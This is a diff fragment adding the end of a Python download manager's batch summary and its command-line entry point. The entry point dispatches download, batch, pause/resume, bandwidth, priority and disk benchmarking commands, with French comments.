+    total_bytes = sum(report["bytes"] for report in reports.values())
+    summary = {
+        "type": "summary",
+        "event": "summary",
+        "interrupted": interrupted.is_set(),
+        "jobs": list(reports.values()),
+        "total": {
+            "jobs": len(reports),
+            "success": sum(1 for report in reports.values() if report["outcome"] == "success"),
+            "bytes": total_bytes,
+            "seconds": round(elapsed, 1),
+            "mb_per_s": round(total_bytes / elapsed / (1024 * 1024), 2) if elapsed else 0.0,
+        },
+    }
+    events.post(summary)
+    events.close()
+    return summary
+
+# ==================== CLI ====================
+
+def main():
+    """Point d'entrée principal"""
+    global controller, bandwidth
+    
+    if len(sys.argv) < 2:
+        print(json.dumps({"error": "Usage: python download_manager.py <command> [args]"}))
+        sys.exit(1)
+    
+    command = sys.argv[1]
+    
+    try:
+        if command == "detect_type":
+            if len(sys.argv) < 3:
+                print(json.dumps({"error": "URL requise"}))
+                sys.exit(1)
+            
+            url = sys.argv[2]
+            link_type = detect_link_type(url)
+            print(json.dumps({"type": link_type, "url": url}))
+        
+        elif command == "download":
+            if len(sys.argv) < 5:
+                print(json.dumps({"error": "URL, destination et ID requises"}))
+                sys.exit(1)
+            
+            url = sys.argv[2]
+            destination = sys.argv[3]
+            download_id = sys.argv[4]
+            # Argument optionnel : dossier de contrôle (userData d'Electron)
+            control_base_dir = sys.argv[5] if len(sys.argv) > 5 else None
+            # Arguments suivants : autres liens `dl` du catalogue (miroirs)
+            mirror_links = sys.argv[6:]
+            
+            # Initialiser le controller avec le dossier userData si fourni
+            controller = DownloadController(download_id, control_base_dir)
+            controller.listen_stdin()
+            
+            # Inscription auprès du planificateur de bande passante partagé entre processus
+            scheduler = BandwidthScheduler(controller.control_dir)
+            bandwidth = scheduler.register(download_id)
+            atexit.register(scheduler.close)
+            
+            # Nombre de connexions appris par hôte lors des téléchargements précédents
+            host_limits.load(controller.control_dir)
+            atexit.register(host_limits.save)
+            
+            result = run_download(controller, url, destination, mirror_links)
+            controller.close()
+            events = DownloadStatus.stdout()
+            events.post({"type": "done", **result})
+            events.close()
+            # Exit avec code 0 après une annulation pour éviter message d'erreur
+            if not result.get("success") and not result.get("cancelled"):
+                sys.exit(1)
+        
+        elif command == "serve":
+            # Argument optionnel : dossier de contrôle (userData d'Electron)
+            serve(sys.argv[2] if len(sys.argv) > 2 else None)
+
+        elif command == "batch":
+            # Manifeste JSON/NDJSON (fichier ou `-` pour stdin), dossier de contrôle, téléchargements simultanés
+            source = sys.argv[2] if len(sys.argv) > 2 else "-"
+            control_base_dir = sys.argv[3] if len(sys.argv) > 3 else None
+            max_downloads = int(sys.argv[4]) if len(sys.argv) > 4 else None
+            if source == "-":
+                manifest = read_manifest(sys.stdin.read())
+            else:
+                with open(source, "r", encoding="utf-8") as f:
+                    manifest = read_manifest(f.read())
+
+            summary = batch(manifest, control_base_dir, max_downloads)
+            if summary["interrupted"]:
+                # Travaux suspendus en pause : leurs threads ne rendraient jamais la main
+                sys.stdout.flush()
+                os._exit(1)
+            if summary["total"]["success"] < summary["total"]["jobs"]:
+                sys.exit(1)
+
+        elif command in ("pause", "resume", "stop"):
+            if len(sys.argv) < 3:
+                print(json.dumps({"error": "ID requis"}))
+                sys.exit(1)
+            
+            download_id = sys.argv[2]
+            control_base_dir = sys.argv[3] if len(sys.argv) > 3 else None
+            if command == "resume":
+                set_control_flag(download_id, control_base_dir, "pause", False)
+            else:
+                set_control_flag(download_id, control_base_dir, command)
+            
+            print(json.dumps({"ok": True}))
+        
+        elif command == "set_bandwidth":
+            # Plafond global en Mo/s (0 = illimité), appliqué à chaud par tous les téléchargements
+            if len(sys.argv) < 3:
+                print(json.dumps({"error": "Limite (Mo/s) requise"}))
+                sys.exit(1)
+            
+            limit_mb = float(sys.argv[2])
+            control_base_dir = sys.argv[3] if len(sys.argv) > 3 else None
+            BandwidthScheduler.update_limits(get_control_dir(control_base_dir), cap=limit_mb * 1024 * 1024)
+            print(json.dumps({"ok": True}))
+        
+        elif command == "set_priority":
+            # Poids et priorité d'un téléchargement dans le partage de bande passante
+            if len(sys.argv) < 5:
+                print(json.dumps({"error": "ID, poids et priorité requis"}))
+                sys.exit(1)
+            
+            download_id = sys.argv[2]
+            weight = float(sys.argv[3])
+            priority = int(sys.argv[4])
+            control_base_dir = sys.argv[5] if len(sys.argv) > 5 else None
+            BandwidthScheduler.update_limits(
+                get_control_dir(control_base_dir), download_id=download_id, weight=weight, priority=priority
+            )
+            print(json.dumps({"ok": True}))
+        
+        elif command == "get_disks":
+            control_base_dir = sys.argv[2] if len(sys.argv) > 2 else None
+            print(json.dumps({"drives": list_disks(get_control_dir(control_base_dir))}))
+        
+        elif command == "bench_disk":
+            # Mesure d'écriture d'un dossier quelconque (le profil est attribué à son volume)
+            from disks import SEQ_SIZE_MB
+            
+            if len(sys.argv) < 3:
+                print(json.dumps({"error": "Dossier requis"}))
+                sys.exit(1)
+            
+            path = sys.argv[2]
+            control_base_dir = sys.argv[3] if len(sys.argv) > 3 else None
+            seq_size_mb = int(sys.argv[4]) if len(sys.argv) > 4 else SEQ_SIZE_MB
+            print(json.dumps(disk_inventory(get_control_dir(control_base_dir)).benchmark(path, seq_size_mb)))
+        
+        elif command == "suggest_disk":
+            # Taille décompressée du jeu ("12.5 GB", octets...)
+            from job_queue import parse_size
+            
+            if len(sys.argv) < 3:
+                print(json.dumps({"error": "Taille requise"}))
+                sys.exit(1)
+            
+            control_base_dir = sys.argv[3] if len(sys.argv) > 3 else None
+            print(json.dumps(suggest_disk(parse_size(sys.argv[2]), get_control_dir(control_base_dir))))
+        
+        else:
+            print(json.dumps({"error": f"Commande inconnue: {command}"}))
+            sys.exit(1)
+    
+    except Exception as e:
+        logging.exception("Erreur critique")
+        print(json.dumps({"error": str(e)}))
+        sys.exit(1)
+
+if __name__ == "__main__":
+    main()